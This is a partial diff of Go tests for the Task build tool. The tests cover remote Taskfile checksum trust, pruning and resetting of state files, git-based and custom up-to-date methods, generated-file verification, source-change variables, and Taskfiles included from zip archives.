+	require.NoError(t, err)
+
+	// An unchanged Taskfile is still checked against the trusted checksum
+	entries, err := taskfile.ReadCache(filepath.Join(dir, ".task"))
+	require.NoError(t, err)
+	require.Len(t, entries, 1)
+	require.NoError(t, os.Remove(filepath.Join(dir, ".task", "remote", entries[0].Key+".checksum")))
+	_, err = setup()
+	_, ok := errors.AsType[*errors.TaskfileNotTrustedError](err)
+	require.True(t, ok, err)
+	requested()
+
+	// A changed Taskfile is downloaded with its new validators
+	mu.Lock()
+	content, etag = "version: '3'\n\ntasks:\n  bye: echo bye\n", `"v2"`
+	mu.Unlock()
+	e, err = setup(task.WithAssumeYes(true))
+	require.NoError(t, err)
+	assert.Equal(t, []string{`GET "v1"`}, requested())
+	_, err = e.GetTask(&task.Call{Task: "remote:bye"})
+	require.NoError(t, err)
+	_, err = setup()
+	require.NoError(t, err)
+	assert.Equal(t, []string{`GET "v2"`}, requested())
+}
+
+func TestPruneState(t *testing.T) { // nolint:paralleltest // cannot run in parallel
+	const dir = "testdata/prune_state"
+	tempDir := filepathext.SmartJoin(dir, ".task")
+
+	newExecutor := func(buff *bytes.Buffer, dry bool) *task.Executor {
+		e := task.NewExecutor(
+			task.WithDir(dir),
+			task.WithStdout(buff),
+			task.WithStderr(buff),
+			task.WithDry(dry),
+		)
+		require.NoError(t, e.Setup())
+		return e
+	}
+	exists := func(path string) bool {
+		_, err := os.Stat(path)
+		return err == nil
+	}
+	clean := func() {
+		_ = os.RemoveAll(tempDir)
+	}
+	clean()
+	t.Cleanup(clean)
+
+	var buff bytes.Buffer
+	require.NoError(t, newExecutor(&buff, false).Run(t.Context(), &task.Call{Task: "default"}))
+	build := stateFile(t, tempDir, "checksum", "build")
+	gen := stateFile(t, tempDir, "checksum", "gen-foo")
+
+	// States of removed tasks, with and without an entry in the index
+	orphan := filepathext.SmartJoin(tempDir, "checksum/old-0123456789abcdef")
+	legacyOrphan := filepathext.SmartJoin(tempDir, "timestamp/removed")
+	legacy := filepathext.SmartJoin(tempDir, "timestamp/build")
+	// A state of an existing task that its call variants no longer key to
+	stale := filepathext.SmartJoin(tempDir, "checksum/build-fedcba9876543210")
+	require.NoError(t, os.MkdirAll(filepathext.SmartJoin(tempDir, "timestamp"), 0o755))
+	for _, path := range []string{orphan, legacyOrphan, legacy, stale} {
+		require.NoError(t, os.WriteFile(path, nil, 0o644))
+	}
+	// An entry of the index without a state
+	indexPath := filepathext.SmartJoin(tempDir, "index.json")
+	data, err := os.ReadFile(indexPath)
+	require.NoError(t, err)
+	var index map[string]any
+	require.NoError(t, json.Unmarshal(data, &index))
+	index["gone-0123456789abcdef"] = map[string]any{"task": "gone", "dir": "."}
+	data, err = json.Marshal(index)
+	require.NoError(t, err)
+	require.NoError(t, os.WriteFile(indexPath, data, 0o644))
+
+	buff.Reset()
+	require.NoError(t, newExecutor(&buff, true).PruneState())
+	assert.Contains(t, buff.String(), "Would remove checksum state")
+	assert.Contains(t, buff.String(), "Would remove timestamp state")
+	assert.Contains(t, buff.String(), "Would remove index entry gone-0123456789abcdef")
+	assert.True(t, exists(orphan))
+	assert.True(t, exists(legacyOrphan))
+	assert.True(t, exists(stale))
+
+	buff.Reset()
+	require.NoError(t, newExecutor(&buff, false).PruneState())
+	assert.Equal(t, 4, strings.Count(buff.String(), "Removed"))
+	assert.False(t, exists(orphan))
+	assert.False(t, exists(legacyOrphan))
+	assert.False(t, exists(stale))
+	assert.True(t, exists(legacy))
+	assert.True(t, exists(build))
+	assert.True(t, exists(gen))
+
+	buff.Reset()
+	require.NoError(t, newExecutor(&buff, false).ResetState("build"))
+	assert.False(t, exists(build))
+	assert.False(t, exists(legacy))
+	assert.True(t, exists(gen))
+
+	buff.Reset()
+	require.NoError(t, newExecutor(&buff, false).ResetState("gen-foo"))
+	assert.False(t, exists(gen))
+
+	data, err = os.ReadFile(indexPath)
+	require.NoError(t, err)
+	assert.JSONEq(t, "{}", string(data))
+
+	require.Error(t, newExecutor(&buff, false).ResetState("missing"))
+}
+
+func TestGitMethod(t *testing.T) {
+	t.Parallel()
+
+	root := t.TempDir()
+	dir := filepathext.SmartJoin(root, "repo")
+	require.NoError(t, os.MkdirAll(filepathext.SmartJoin(dir, "src"), 0o755))
+	require.NoError(t, os.MkdirAll(filepathext.SmartJoin(root, "shared"), 0o755))
+	gitCmd := func(args ...string) {
+		t.Helper()
+		cmd := exec.CommandContext(t.Context(), "git", append([]string{"-c", "user.name=task", "-c", "user.email=task@example.com"}, args...)...)
+		cmd.Dir = dir
+		out, err := cmd.CombinedOutput()
+		require.NoError(t, err, string(out))
+	}
+	write := func(name, content string) {
+		t.Helper()
+		require.NoError(t, os.WriteFile(filepathext.SmartJoin(dir, name), []byte(content), 0o644))
+	}
+	run := func() string {
+		t.Helper()
+		var buff bytes.Buffer
+		e := task.NewExecutor(
+			task.WithDir(dir),
+			task.WithStdout(&buff),
+			task.WithStderr(&buff),
+		)
+		require.NoError(t, e.Setup())
+		require.NoError(t, e.Run(t.Context(), &task.Call{Task: "build"}))
+		return buff.String()
+	}
+
+	write("Taskfile.yml", `version: '3'
+
+tasks:
+  build:
+    method: git
+    cmds:
+      - echo built
+    sources:
+      - src/*.txt
+      - '{conf,docs}/*.cfg'
+      - ../shared/*.txt
+`)
+	write(".gitignore", ".task/\nsrc/ignored.txt\n")
+	write("src/a.txt", "a")
+	gitCmd("init", "-q")
+	gitCmd("add", ".")
+	gitCmd("commit", "-q", "-m", "init")
+
+	assert.NotContains(t, run(), "is up to date")
+	assert.Contains(t, run(), "is up to date")
+
+	// Files ignored by git are not sources
+	write("src/ignored.txt", "ignored")
+	assert.Contains(t, run(), "is up to date")
+
+	// Uncommitted changes are, including further edits of a modified file
+	write("src/a.txt", "b")
+	assert.NotContains(t, run(), "is up to date")
+	write("src/a.txt", "c")
+	assert.NotContains(t, run(), "is up to date")
+	assert.Contains(t, run(), "is up to date")
+
+	// Committing them doesn't change the sources
+	gitCmd("commit", "-q", "-a", "-m", "edit")
+	assert.Contains(t, run(), "is up to date")
+
+	// Untracked files are sources as well
+	write("src/new.txt", "new")
+	assert.NotContains(t, run(), "is up to date")
+	assert.Contains(t, run(), "is up to date")
+
+	// Braces are expanded like for the other methods
+	require.NoError(t, os.MkdirAll(filepathext.SmartJoin(dir, "conf"), 0o755))
+	write("conf/app.cfg", "app")
+	assert.NotContains(t, run(), "is up to date")
+	assert.Contains(t, run(), "is up to date")
+
+	// Files outside of the repository are hashed as well
+	write("../shared/lib.txt", "lib")
+	assert.NotContains(t, run(), "is up to date")
+	assert.Contains(t, run(), "is up to date")
+	write("../shared/lib.txt", "lib2")
+	assert.NotContains(t, run(), "is up to date")
+}
+
+func TestGitMethodWithoutRepository(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	write := func(name, content string) {
+		t.Helper()
+		require.NoError(t, os.WriteFile(filepathext.SmartJoin(dir, name), []byte(content), 0o644))
+	}
+	run := func() string {
+		t.Helper()
+		var buff bytes.Buffer
+		e := task.NewExecutor(
+			task.WithDir(dir),
+			task.WithStdout(&buff),
+			task.WithStderr(&buff),
+		)
+		require.NoError(t, e.Setup())
+		require.NoError(t, e.Run(t.Context(), &task.Call{Task: "build"}))
+		return buff.String()
+	}
+
+	write("Taskfile.yml", `version: '3'
+
+tasks:
+  build:
+    method: git
+    cmds:
+      - echo built
+    sources:
+      - '*.txt'
+`)
+	write("a.txt", "a")
+
+	// The content of the sources is used instead
+	assert.NotContains(t, run(), "is up to date")
+	assert.Contains(t, run(), "is up to date")
+	write("a.txt", "b")
+	assert.NotContains(t, run(), "is up to date")
+}
+
+func TestCustomMethod(t *testing.T) { // nolint:paralleltest // cannot run in parallel
+	const dir = "testdata/custom_method"
+
+	run := func(taskName string) string {
+		var buff bytes.Buffer
+		e := task.NewExecutor(
+			task.WithDir(dir),
+			task.WithStdout(&buff),
+			task.WithStderr(&buff),
+			task.WithSilent(true),
+		)
+		require.NoError(t, e.Setup())
+		require.NoError(t, e.Run(t.Context(), &task.Call{Task: taskName}))
+		return buff.String()
+	}
+	clean := func() {
+		_ = os.RemoveAll(filepathext.SmartJoin(dir, ".task"))
+		_ = os.Remove(filepathext.SmartJoin(dir, "version.txt"))
+	}
+	clean()
+	t.Cleanup(clean)
+
+	for _, taskName := range []string{"inline", "named"} {
+		require.NoError(t, os.WriteFile(filepathext.SmartJoin(dir, "version.txt"), []byte("1\n"), 0o644))
+		assert.Equal(t, taskName+"\n", run(taskName))
+		assert.Empty(t, run(taskName))
+
+		require.NoError(t, os.WriteFile(filepathext.SmartJoin(dir, "version.txt"), []byte("2\n"), 0o644))
+		assert.Equal(t, taskName+"\n", run(taskName))
+		assert.Empty(t, run(taskName))
+	}
+
+	// The command receives the task, its dir and its sources as JSON
+	var input struct {
+		Task    string   `json:"task"`
+		Dir     string   `json:"dir"`
+		Sources []string `json:"sources"`
+	}
+	require.NoError(t, json.Unmarshal([]byte(run("input")), &input))
+	assert.Equal(t, "input", input.Task)
+	assert.Equal(t, []string{"version.txt"}, input.Sources)
+	assert.True(t, filepath.IsAbs(input.Dir))
+
+	// Included Taskfiles use their own methods, and the root ones with ":"
+	assert.Equal(t, "lib\n", run("lib:named"))
+	assert.Equal(t, "2\n", run("lib:root"))
+}
+
+func TestVerifyGenerates(t *testing.T) { // nolint:paralleltest // cannot run in parallel
+	const dir = "testdata/verify_generates"
+
+	run := func() string {
+		var buff bytes.Buffer
+		e := task.NewExecutor(
+			task.WithDir(dir),
+			task.WithStdout(&buff),
+			task.WithStderr(&buff),
+			task.WithVerbose(true),
+		)
+		require.NoError(t, e.Setup())
+		require.NoError(t, e.Run(t.Context(), &task.Call{Task: "build"}))
+		return buff.String()
+	}
+	clean := func() {
+		_ = os.RemoveAll(filepathext.SmartJoin(dir, ".task"))
+		_ = os.Remove(filepathext.SmartJoin(dir, "out-a.txt"))
+		_ = os.Remove(filepathext.SmartJoin(dir, "out-b.txt"))
+	}
+	clean()
+	t.Cleanup(clean)
+
+	assert.NotContains(t, run(), "is up to date")
+	assert.Contains(t, run(), "is up to date")
+
+	// An edited output makes the task stale
+	require.NoError(t, os.WriteFile(filepathext.SmartJoin(dir, "out-a.txt"), []byte("edited\n"), 0o644))
+	out := run()
+	assert.Contains(t, out, `task: [build] generated file "out-a.txt" changed`)
+	assert.NotContains(t, out, "is up to date")
+	assert.Contains(t, run(), "is up to date")
+
+	// So does deleting one of many outputs
+	require.NoError(t, os.Remove(filepathext.SmartJoin(dir, "out-b.txt")))
+	out = run()
+	assert.Contains(t, out, `task: [build] generated file "out-b.txt" changed`)
+	assert.NotContains(t, out, "is up to date")
+}
+
+func TestSourceChanges(t *testing.T) { // nolint:paralleltest // cannot run in parallel
+	const dir = "testdata/source_changes"
+
+	run := func(name string) string {
+		var buff bytes.Buffer
+		e := task.NewExecutor(
+			task.WithDir(dir),
+			task.WithStdout(&buff),
+			task.WithStderr(&buff),
+			task.WithSilent(true),
+		)
+		require.NoError(t, e.Setup())
+		require.NoError(t, e.Run(t.Context(), &task.Call{Task: name}))
+		return buff.String()
+	}
+	write := func(name, content string) {
+		require.NoError(t, os.WriteFile(filepathext.SmartJoin(dir, "src/"+name), []byte(content), 0o644))
+	}
+	clean := func() {
+		_ = os.RemoveAll(filepathext.SmartJoin(dir, ".task"))
+		_ = os.RemoveAll(filepathext.SmartJoin(dir, "src"))
+	}
+	clean()
+	t.Cleanup(clean)
+	require.NoError(t, os.MkdirAll(filepathext.SmartJoin(dir, "src"), 0o755))
+
+	// All sources are reported on the first run
+	write("a.txt", "a")
+	write("b.txt", "b")
+	assert.Equal(t, "changed=src/a.txt src/b.txt\nadded=src/a.txt src/b.txt\nremoved=\nitem=src/a.txt\nitem=src/b.txt\n", run("lint"))
+
+	// The vars are lists, so paths with spaces are kept whole
+	write("b.txt", "edited")
+	write("c d.txt", "c")
+	require.NoError(t, os.Remove(filepathext.SmartJoin(dir, "src/a.txt")))
+	assert.Equal(t, "changed=src/b.txt src/c d.txt\nadded=src/c d.txt\nremoved=src/a.txt\nitem=src/b.txt\nitem=src/c d.txt\n", run("lint"))
+
+	// Tasks that never read the manifest don't record it
+	require.NoError(t, os.RemoveAll(filepathext.SmartJoin(dir, ".task")))
+	assert.Equal(t, "stamp\n", run("stamp"))
+	assert.NoDirExists(t, filepathext.SmartJoin(dir, ".task/sources"))
+}
+
 // The injected fingerprint variable follows the method the up-to-date check
 // uses, including when that method comes from the Taskfile level.
 func TestFingerprintVarMethod(t *testing.T) {
@@ -917,7 +2094,7 @@ func TestStatusVariables(t *testing.T) {
 	require.NoError(t, e.Setup())
 	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "build-checksum"}))
 
-	assert.Contains(t, buff.String(), "3e464c4b03f4b65d740e1e130d4d108a")
+	assert.Contains(t, buff.String(), "5489fff06ec3c5e012fb84b5f0efb7f9")
 
 	buff.Reset()
 	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "build-ts"}))
@@ -953,7 +2130,7 @@ func TestCmdsVariables(t *testing.T) {
 	require.NoError(t, e.Setup())
 	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "build-checksum"}))
 
-	assert.Contains(t, buff.String(), "3e464c4b03f4b65d740e1e130d4d108a")
+	assert.Contains(t, buff.String(), "5489fff06ec3c5e012fb84b5f0efb7f9")
 
 	buff.Reset()
 	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "build-ts"}))
@@ -1126,8 +2303,8 @@ func TestDryChecksum(t *testing.T) {
 
 	const dir = "testdata/dry_checksum"
 
-	checksumFile := filepathext.SmartJoin(dir, ".task/checksum/default")
-	_ = os.Remove(checksumFile)
+	tempDir := filepathext.SmartJoin(dir, ".task")
+	_ = os.RemoveAll(tempDir)
 
 	e := task.NewExecutor(
 		task.WithDir(dir),
@@ -1142,13 +2319,12 @@ func TestDryChecksum(t *testing.T) {
 	require.NoError(t, e.Setup())
 	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "default"}))
 
-	_, err := os.Stat(checksumFile)
+	_, err := os.Stat(filepathext.SmartJoin(tempDir, "checksum"))
 	require.Error(t, err, "checksum file should not exist")
 
 	e.Dry = false
 	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "default"}))
-	_, err = os.Stat(checksumFile)
-	require.NoError(t, err, "checksum file should exist")
+	stateFile(t, tempDir, "checksum", "default")
 }
 
 func TestIncludes(t *testing.T) {
@@ -1478,6 +2654,51 @@ func TestIncludesHttp(t *testing.T) {
 	}
 }
 
+func TestIncludesArchive(t *testing.T) {
+	t.Parallel()
+
+	dir := t.TempDir()
+	var archive bytes.Buffer
+	zw := zip.NewWriter(&archive)
+	for name, content := range map[string]string{
+		"Taskfile.yml":        "version: '3'\n\nincludes:\n  nested: ./nested\n\ntasks:\n  dir: echo {{.TASKFILE_DIR}}\n",
+		"nested/Taskfile.yml": "version: '3'\n\ntasks:\n  dir: echo {{.TASKFILE_DIR}}\n",
+	} {
+		w, err := zw.Create(name)
+		require.NoError(t, err)
+		_, err = w.Write([]byte(content))
+		require.NoError(t, err)
+	}
+	require.NoError(t, zw.Close())
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "tasks.zip"), archive.Bytes(), 0o644))
+	root := "version: '3'\n\nincludes:\n  lib: ./tasks.zip//Taskfile.yml\n"
+	require.NoError(t, os.WriteFile(filepath.Join(dir, "Taskfile.yml"), []byte(root), 0o644))
+
+	var buff bytes.Buffer
+	e := task.NewExecutor(
+		task.WithDir(dir),
+		task.WithStdout(&buff),
+		task.WithStderr(&buff),
+		task.WithSilent(true),
+		task.WithCacheExpiryDuration(time.Nanosecond),
+	)
+	require.NoError(t, e.Setup())
+
+	// TASKFILE_DIR is where the Taskfile of the archive was extracted
+	require.NoError(t, e.Run(t.Context(), &task.Call{Task: "lib:dir"}, &task.Call{Task: "lib:nested:dir"}))
+	dirs := strings.Fields(buff.String())
+	require.Len(t, dirs, 2)
+	assert.FileExists(t, filepath.Join(dirs[0], "Taskfile.yml"))
+	assert.Equal(t, filepath.ToSlash(filepath.Join(dirs[0], "nested")), dirs[1])
+	assert.True(t, strings.HasPrefix(dirs[0], filepath.ToSlash(filepath.Join(dir, ".task", "remote"))))
+
+	// Pruning removes the extracted archive
+	buff.Reset()
+	require.NoError(t, e.ManageRemoteCache("prune", false))
+	assert.Contains(t, buff.String(), "(extracted archive)")
+	assert.NoDirExists(t, dirs[0])
+}
+
 func TestIncludesDependencies(t *testing.T) {
 	t.Parallel()
 